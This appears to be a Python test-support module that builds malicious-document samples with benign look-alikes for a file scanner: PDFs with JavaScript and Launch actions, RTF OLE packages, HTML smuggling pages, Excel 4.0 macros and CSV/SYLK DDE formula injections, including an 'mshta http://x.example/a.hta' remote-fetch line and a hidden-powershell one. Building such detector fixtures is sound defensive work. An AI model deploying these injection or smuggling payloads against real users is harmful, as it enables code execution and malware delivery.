"""Malicious-document shapes built by the tests, each with a benign look-alike.

- OOXML with a remote template (``attachedTemplate``, ``TargetMode="External"``) and with an
  internal one;
- RTF with an embedded OLE 1.0 object ([MS-OLEDS] 2.2: Equation.3, or a Package carrying a
  file) and RTF without one;
- embedded OLE Packages (``\\x01Ole10Native``, [MS-OLEDS] 2.3.6) in an OLE file and in a
  docx's ``word/embeddings/``;
- PDFs with active content (/JavaScript, /OpenAction, /Launch, /EmbeddedFile, also inside a
  FlateDecode object stream) and a plain one;
- HTML smuggling pages and plain HTML;
- a OneNote section header.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from support import office_samples

_PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _with_members(doc: bytes, members: dict[str, bytes | str]) -> bytes:
    src = io.BytesIO(doc)
    buf = io.BytesIO()
    with zipfile.ZipFile(src) as z, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in z.infolist():
            out.writestr(info.filename, z.read(info))
        for name, data in members.items():
            out.writestr(name, data)
    return buf.getvalue()


def docx_template(target: str, external: bool = True, kind: str = "attachedTemplate") -> bytes:
    """A docx whose settings part names a template at ``target`` (external or in the package)."""
    mode = ' TargetMode="External"' if external else ""
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{_PKG_RELS}">'
        f'<Relationship Id="rId1337" Type="{_R}/{kind}" Target="{target}"{mode}/>'
        "</Relationships>"
    )
    settings = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        f'xmlns:r="{_R}"><w:attachedTemplate r:id="rId1337"/></w:settings>'
    )
    return _with_members(
        office_samples.docx(),
        {"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels},
    )


def docx_hyperlink(url: str = "https://example.com/") -> bytes:
    """A docx with an external *hyperlink* relationship: waits for a click, not flagged."""
    rels = (
        f'<?xml version="1.0"?><Relationships xmlns="{_PKG_RELS}">'
        f'<Relationship Id="rId5" Type="{_R}/hyperlink" Target="{url}" TargetMode="External"/>'
        "</Relationships>"
    )
    return _with_members(office_samples.docx(), {"word/_rels/document.xml.rels": rels})


# --- OLE 1.0 objects and packages ([MS-OLEDS]) -------------------------------------------------


def _lp(s: bytes) -> bytes:
    """A LengthPrefixedAnsiString: uint32 length including the NUL, the bytes, NUL."""
    return struct.pack("<I", len(s) + 1) + s + b"\0"


def package(filename: str, payload: bytes) -> bytes:
    """An OLE Package's native data: type, file name, source path, two dwords, temp path,
    size and the file's bytes (what Packager.exe writes)."""
    name = filename.encode()
    return (
        struct.pack("<H", 2)
        + name
        + b"\0"
        + b"C:\\Users\\u\\Desktop\\"
        + name
        + b"\0"
        + struct.pack("<II", 0x00030000, len(name) + 40)
        + b"C:\\Users\\u\\AppData\\Local\\Temp\\"
        + name
        + b"\0"
        + struct.pack("<I", len(payload))
        + payload
    )


def ole1_object(class_name: bytes, data: bytes) -> bytes:
    """An OLE 1.0 embedded object: version, format id 2 (embedded), class, topic, item,
    data size and data."""
    return (
        struct.pack("<II", 0x00000501, 2)
        + _lp(class_name)
        + _lp(b"")
        + _lp(b"")
        + (struct.pack("<I", len(data)) + data)
    )


def rtf(objects: tuple[bytes, ...] = (), text: str = "Dear customer") -> bytes:
    """An RTF document embedding each OLE 1.0 object (``\\object\\objemb{\\*\\objdata hex}``)."""
    body = "".join(
        "{\\object\\objemb{\\*\\objclass x}{\\*\\objdata " + o.hex() + "}}" for o in objects
    )
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\f0 " + text + body + "\\par}").encode()


def rtf_equation() -> bytes:
    """RTF with an Equation.3 object (the Equation Editor exploit carrier)."""
    eq = office_samples.cfb({"Equation Native": b"\x1c\x00" + bytes(60)})
    return rtf((ole1_object(b"Equation.3", eq),))


def rtf_package(filename: str = "invoice.exe", payload: bytes = b"MZ" + bytes(200)) -> bytes:
    """RTF with an OLE Package carrying ``filename``."""
    return rtf((ole1_object(b"Package", package(filename, payload)),))


def ole_with_package(filename: str = "readme.lnk", payload: bytes = b"L\0\0\0" + bytes(9)) -> bytes:
    """An OLE file with a ``\\x01Ole10Native`` stream (an embedded Package): uint32 size, then
    the package."""
    native = package(filename, payload)
    return office_samples.cfb({"\x01Ole10Native": struct.pack("<I", len(native)) + native})


def docx_with_embedded(filename: str = "update.js", payload: bytes = b"WScript.Echo(1)") -> bytes:
    """A docx with ``word/embeddings/oleObject1.bin`` holding an OLE Package of ``filename``."""
    return _with_members(
        office_samples.docx(),
        {"word/embeddings/oleObject1.bin": ole_with_package(filename, payload)},
    )


def docx_with_equation(equation: bool = True) -> bytes:
    """A docx embedding an Equation Editor 3.0 object (its class id and ``Equation Native``
    stream), or (``equation=False``) an embedded Excel worksheet object instead."""
    if equation:
        ole = office_samples.cfb(
            {"Equation Native": b"\x1c\x00" + bytes(60)}, "0002ce02-0000-0000-c000-000000000046"
        )
    else:
        ole = office_samples.cfb({"Workbook": bytes(512)}, office_samples.CLSID_EXCEL97)
    return _with_members(office_samples.docx(), {"word/embeddings/oleObject1.bin": ole})


# --- PDF -----------------------------------------------------------------------------------------


def pdf(objects: list[bytes], catalog_extra: bytes = b"") -> bytes:
    """A PDF with a catalog (object 1, plus ``catalog_extra``), one page (2, 3) and ``objects``
    numbered from 4; the xref offsets are right."""
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objs, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def pdf_plain() -> bytes:
    """A PDF with a page and text, no active content (it mentions JavaScript in its text)."""
    text = b"BT /F1 12 Tf 72 700 Td (Learn JavaScript in a week) Tj ET"
    return pdf([b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream"])


def pdf_javascript() -> bytes:
    """A PDF whose catalog opens with a JavaScript action."""
    return pdf(
        [b"<< /Type /Action /S /JavaScript /JS (app.alert\\('x'\\);) >>"],
        b"/OpenAction 4 0 R",
    )


def pdf_launch() -> bytes:
    """A PDF whose open action launches a program."""
    return pdf(
        [b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"],
        b"/OpenAction 4 0 R",
    )


def pdf_embedded_file() -> bytes:
    """A PDF carrying an attached file (/EmbeddedFile)."""
    payload = b"MZ" + bytes(64)
    return pdf(
        [
            b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload)
            + payload
            + b"\nendstream",
            b"<< /Type /Filespec /F (invoice.exe) /EF << /F 4 0 R >> >>",
        ],
        b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >>",
    )


def pdf_hidden_in_object_stream() -> bytes:
    """A PDF whose JavaScript action is only inside a FlateDecode object stream (/ObjStm), so
    a plain byte scan does not see it."""
    inner = b"<< /Type /Action /S /JavaScript /JS (app.launchURL\\('http://x'\\)) >>"
    header = b"5 0 "
    packed = zlib.compress(header + inner)
    objstm = (
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream"
    )
    return pdf([objstm], b"/OpenAction 5 0 R")


# --- HTML ----------------------------------------------------------------------------------------

HTML_SMUGGLING = b"""<html><body><p>Loading your document...</p><script>
var b64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==";
var bin = atob(b64); var bytes = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) { bytes[i] = bin.charCodeAt(i); }
var blob = new Blob([bytes], {type: "application/octet-stream"});
var a = document.createElement("a"); a.href = URL.createObjectURL(blob);
a.download = "invoice.iso"; document.body.appendChild(a); a.click();
</script></body></html>"""

HTML_SMUGGLING_MS = b"""<html><script>
var d = atob('UEsDBBQAAAAIAA=='); var u = new Uint8Array(d.length);
window.navigator.msSaveOrOpenBlob(new Blob([u]), 'statement.zip');
</script></html>"""

HTML_DATA_URI_DOWNLOAD = (
    b'<html><body><a id="l" download="report.zip" href="data:application/zip;base64,'
    b'UEsDBBQAAAAIAAAAIQA=">here</a><script>document.getElementById("l").click();</script>'
    b"</body></html>"
)

HTML_PLAIN = b"""<html><head><title>Newsletter</title></head><body>
<h1>October news</h1><p>Our new Blob storage offering is live; <a href="https://example.com/">
read more</a>. Download the brochure from our site.</p></body></html>"""

HTML_SCRIPT_NO_PAYLOAD = b"""<html><body><script>
document.getElementById("year").textContent = new Date().getFullYear();
</script><span id="year"></span></body></html>"""


# --- OneNote -------------------------------------------------------------------------------------

# [MS-ONESTORE] 2.3.1: a revision store file starts with guidFileType; a .one section's is
# {7B5C52E4-D88C-4DA7-AEB1-5378D02996D3}, stored as a little-endian GUID.
ONENOTE_GUID = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")


def onenote(payload: bytes = b"MZ" + bytes(200)) -> bytes:
    """A OneNote section file header followed by an embedded-file blob."""
    return ONENOTE_GUID + bytes(1024 - len(ONENOTE_GUID)) + payload


# --- Excel 4.0 (XLM) macros, CSV and SYLK formulas ------------------------------------------------

_SS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_MS = "http://schemas.microsoft.com/office/2006/relationships"


def _xlsx_package(
    sheets: dict[str, bytes | str],
    workbook: tuple[str, bytes | str],
    content_types: list[tuple[str, str]],
    rels: list[tuple[str, str]],
) -> bytes:
    """A SpreadsheetML package: ``sheets`` (member -> bytes), the workbook part, content-type
    overrides (part, type) and workbook relationships (type URI, target)."""
    ct = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        + "".join(f'<Override PartName="/{p}" ContentType="{t}"/>' for p, t in content_types)
        + "</Types>"
    )
    root_rels = (
        f'<?xml version="1.0"?><Relationships xmlns="{_PKG_RELS}">'
        f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="{workbook[0]}"/>'
        "</Relationships>"
    )
    wb_rels = (
        f'<?xml version="1.0"?><Relationships xmlns="{_PKG_RELS}">'
        + "".join(
            f'<Relationship Id="rId{i}" Type="{t}" Target="{target}"/>'
            for i, (t, target) in enumerate(rels, start=1)
        )
        + "</Relationships>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr("_rels/.rels", root_rels)
        z.writestr(workbook[0], workbook[1])
        z.writestr("xl/_rels/" + workbook[0].rsplit("/", 1)[-1] + ".rels", wb_rels)
        for name, data in sheets.items():
            z.writestr(name, data)
    return buf.getvalue()


_WORKSHEET = (
    f'<?xml version="1.0"?><worksheet xmlns="{_SS}"><sheetData><row r="1"><c r="A1" t="n">'
    "<v>42</v></c></row></sheetData></worksheet>"
)
_MACROSHEET = (
    f'<?xml version="1.0"?><xm:macrosheet xmlns="{_SS}" '
    'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">'
    '<c r="A1"><f>EXEC("calc.exe")</f></c><c r="A2"><f>HALT()</f></c></row></sheetData>'
    "</xm:macrosheet>"
)


def xlsm_xlm(auto_open: str | None = "_xlnm.Auto_Open", macrosheet: bool = True) -> bytes:
    """An .xlsm with an Excel 4.0 macro sheet (``xl/macrosheets/sheet1.xml``) and a defined
    name ``auto_open`` pointing at it; ``macrosheet=False``: a plain worksheet instead."""
    names = (
        f'<definedNames><definedName name="{auto_open}" hidden="1">Macro1!$A$1</definedName>'
        "</definedNames>"
        if auto_open
        else '<definedNames><definedName name="Totals">Sheet1!$A$1</definedName></definedNames>'
    )
    workbook = (
        f'<?xml version="1.0"?><workbook xmlns="{_SS}" xmlns:r="{_R}"><sheets>'
        '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
        + ('<sheet name="Macro1" sheetId="2" state="hidden" r:id="rId2"/>' if macrosheet else "")
        + f"</sheets>{names}</workbook>"
    )
    main = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    sheets: dict[str, bytes | str] = {"xl/worksheets/sheet1.xml": _WORKSHEET}
    cts = [("xl/workbook.xml", main)]
    rels = [(f"{_R}/worksheet", "worksheets/sheet1.xml")]
    if macrosheet:
        sheets["xl/macrosheets/sheet1.xml"] = _MACROSHEET
        cts.append(("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"))
        rels.append((f"{_MS}/xlMacrosheet", "macrosheets/sheet1.xml"))
    return _xlsx_package(sheets, ("xl/workbook.xml", workbook), cts, rels)


def _brt(rtype: int, body: bytes) -> bytes:
    """A BIFF12 record: type and size as 7-bit varints, then the body ([MS-XLSB] 2.1.4)."""

    def varint(v: int) -> bytes:
        out = bytearray()
        while True:
            b, v = v & 0x7F, v >> 7
            out.append(b | (0x80 if v else 0))
            if not v:
                return bytes(out)

    return varint(rtype) + varint(len(body)) + body


def _brt_name(name: str, builtin: bool) -> bytes:
    """BrtName (39): flags (0x20 built-in), chKey, itab (all sheets), the name, a formula of
    no tokens and a null comment."""
    flags = 0x20 if builtin else 0
    wide = name.encode("utf-16-le")
    return _brt(
        39,
        struct.pack("<IBI", flags, 0, 0xFFFFFFFF)
        + struct.pack("<I", len(name))
        + wide
        + struct.pack("<II", 0, 0)  # rgce size 0, cb (extra) 0
        + struct.pack("<I", 0xFFFFFFFF),  # XLNullableWideString: null
    )


def xlsb_xlm(auto_open: str | None = "Auto_Open", macrosheet: bool = True) -> bytes:
    """An .xlsb whose binary workbook part defines the built-in name ``auto_open`` (BrtName)
    and which holds a binary macro sheet ``xl/macrosheets/sheet1.bin``."""
    wb = _brt(131, b"")  # BrtBeginBook
    wb += _brt_name(auto_open, builtin=True) if auto_open else _brt_name("Totals", False)
    wb += _brt(132, b"")  # BrtEndBook
    main = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
    sheets: dict[str, bytes | str] = {"xl/worksheets/sheet1.bin": _brt(129, b"") + _brt(130, b"")}
    cts = [("xl/workbook.bin", main)]
    rels = [(f"{_R}/worksheet", "worksheets/sheet1.bin")]
    if macrosheet:
        sheets["xl/macrosheets/sheet1.bin"] = _brt(129, b"") + _brt(130, b"")
        cts.append(("xl/macrosheets/sheet1.bin", "application/vnd.ms-excel.macrosheet"))
        rels.append((f"{_MS}/xlMacrosheet", "macrosheets/sheet1.bin"))
    return _xlsx_package(sheets, ("xl/workbook.bin", wb), cts, rels)


def _biff(rtype: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", rtype, len(data)) + data


def xls_xlm(
    macro_sheet: bool = True, auto_open: bool = True, hidden: int = 2, builtin: bool = True
) -> bytes:
    """A BIFF8 .xls: one worksheet, an Excel 4.0 macro sheet (BOUNDSHEET ``dt`` 1, ``hidden``
    0/1/2 = visible/hidden/very hidden) and a NAME record for Auto_Open (the built-in name 1,
    or spelled out ``Auto_Open``)."""

    def bof(dt: int) -> bytes:
        return _biff(0x0809, struct.pack("<HHHHII", 0x0600, dt, 0x0DBB, 0x07CC, 0, 0x0206))

    def boundsheet(name: str, state: int, dt: int) -> bytes:
        return _biff(0x0085, struct.pack("<IBBBB", 0, state, dt, len(name), 0) + name.encode())

    def name_record(name: bytes, grbit: int) -> bytes:
        # grbit, chKey, cch, cce, reserved, itab, 4 reserved bytes, fHighByte, the name
        head = struct.pack("<HBBHHHBBBB", grbit, 0, len(name), 0, 0, 0, 0, 0, 0, 0)
        return _biff(0x0018, head + b"\0" + name)

    glob = bof(0x0005) + _biff(0x0042, struct.pack("<H", 1200))
    glob += boundsheet("Sheet1", 0, 0x00)
    if macro_sheet:
        glob += boundsheet("Macro1", hidden, 0x01)
    if auto_open:
        glob += name_record(b"\x01", 0x0020) if builtin else name_record(b"Auto_Open", 0)
    else:
        glob += name_record(b"Totals", 0)
    glob += _biff(0x000A)
    workbook = glob + bof(0x0010) + _biff(0x000A)
    if macro_sheet:
        workbook += bof(0x0040) + _biff(0x000A)
    return office_samples.cfb({"Workbook": workbook}, office_samples.CLSID_EXCEL97)


CSV_DDE = b"name,amount,note\r\nAlice,12.50,paid\r\nBob,-3,\"=cmd|' /C calc'!A0\"\r\n"
CSV_DDE_VARIANTS = (
    b"a;b\n1;=cmd|'/C powershell -nop -w hidden -c IEX(1)'!A0\n",  # ; as delimiter
    b"x,@SUM(1+1)*cmd|' /C calc'!A0\n",
    b"x,\"+MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''\"\n",
    b"x,-2+3+cmd|' /C mshta http://x.example/a.hta'!A0\n",
    b'x,=DDE("cmd";"/C calc";"__DdeLink_60_870516294")\n',
    b'x,"@SUM(1)+CALL(""Shell32"",""ShellExecuteA"",""JJCCCJJ"",0,""open"",""powershell"",'
    b'""-c 1"",0,0)"\n',  # quoted for its commas
    b"\xff\xfen\x00a\x00m\x00e\x00\t\x00=\x00c\x00m\x00d\x00|\x00'\x00 \x00/\x00C\x00 \x00c\x00"
    b"a\x00l\x00c\x00'\x00!\x00A\x000\x00\n\x00",  # UTF-16 "Unicode text"
)
CSV_PLAIN = (
    b"id|name,amount,formula,comment\r\n"
    b'1|alice,-3.5,=SUM(A1:A3),"run cmd.exe from the start menu"\r\n'
    b"2|bob,+12,=A1*2,- see the wiki | section 2\r\n"
    b"3|carol,@home,=AVERAGE(B1:B2),powershell training on monday\r\n"
)

SYLK_EXEC = (
    b"ID;P\r\n"
    b"O;E\r\n"
    b"NN;NAuto_open;ER1C1\r\n"
    b'C;X1;Y1;K0;EEXEC("calc.exe")\r\n'
    b"C;X1;Y2;K0;EHALT()\r\n"
    b"E\r\n"
)
SYLK_DDE = b"ID;PWXL;N;E\r\nP;PGeneral\r\nC;Y1;X1;K0;ECMD|' /C calc'!A0\r\nE\r\n"
SYLK_PLAIN = b"ID;PWXL;N;E\r\nC;Y1;X1;K42\r\nC;Y2;X1;K84;ESUM(R1C1;;2)\r\nE\r\n"


# --- documents whose text hides a needle from byte scans ------------------------------------------

GTUBE = b"XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X"


def pdf_with_text(text: bytes = GTUBE, split: bool = True) -> bytes:
    """A PDF whose page shows ``text`` from a FlateDecode content stream (split into a ``TJ``
    array with kerning when ``split``, escaped parentheses), so its bytes never hold it."""
    half = len(text) // 2
    if split:
        shown = b"[(" + text[:half] + b") -12 (" + text[half:] + b")] TJ"
    else:
        shown = b"(" + text + b") Tj"
    content = b"BT /F1 12 Tf 72 700 Td (Hello \\(reader\\)) Tj T* " + shown + b" ET"
    packed = zlib.compress(content)
    return pdf(
        [b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream"]
    )


def docx_with_text(text: str = GTUBE.decode()) -> bytes:
    """A docx whose one paragraph holds ``text`` split over two runs (as Word does), the
    second with an XML escape, so no member's bytes hold it whole."""
    half = len(text) // 2
    second = text[half:].replace("*", "&#42;")
    return office_samples.docx(
        f"<w:p><w:r><w:t>{text[:half]}</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>{second}</w:t>"
        "</w:r></w:p>"
    )


# [MS-ONESTORE] 2.6.13 FileDataStoreObject guidHeader / guidFooter, as stored.
FILE_DATA_GUID = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
FILE_DATA_FOOTER = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")

HTA = b'<html><head><HTA:APPLICATION ID="a" WINDOWSTATE="minimize"><script language="VBScript">'
HTA += b'CreateObject("WScript.Shell").Run "calc.exe"</script></head></html>'
BAT = b"@echo off\r\ncmd /c start calc.exe\r\n"
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
PNG = b"\x89PNG\r\n\x1a\n" + bytes.fromhex("0000000d49484452000000010000000108060000001f15c489")


def onenote_with_files(*payloads: bytes) -> bytes:
    """A OneNote section header followed by one FileDataStoreObject per payload: header GUID,
    cbLength, unused, reserved, the bytes, padding to 8 and the footer GUID."""
    out = bytearray(ONENOTE_GUID + bytes(1024 - len(ONENOTE_GUID)))
    for p in payloads:
        out += FILE_DATA_GUID + struct.pack("<QIQ", len(p), 0, 0) + p
        out += bytes(-len(p) % 8) + FILE_DATA_FOOTER + bytes(64)
    return bytes(out)


def encrypted(doc: bytes, password: str) -> bytes:
    """``doc`` (an OOXML package) encrypted with ``password`` (ECMA-376 agile, msoffcrypto).

    The package is first padded past 4 KiB with a stored member: msoffcrypto 6.1.0 cannot
    decrypt what it encrypted when the package is smaller (its EncryptedPackage stream then
    lives in the OLE mini stream); real encrypted documents are bigger than that anyway."""
    import random

    from msoffcrypto.format.ooxml import OOXMLFile

    buf = io.BytesIO(doc)
    with zipfile.ZipFile(buf, "a") as z:
        z.writestr("docProps/padding.bin", random.Random(0).randbytes(5000))
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(buf.getvalue())).encrypt(password, out)
    return out.getvalue()
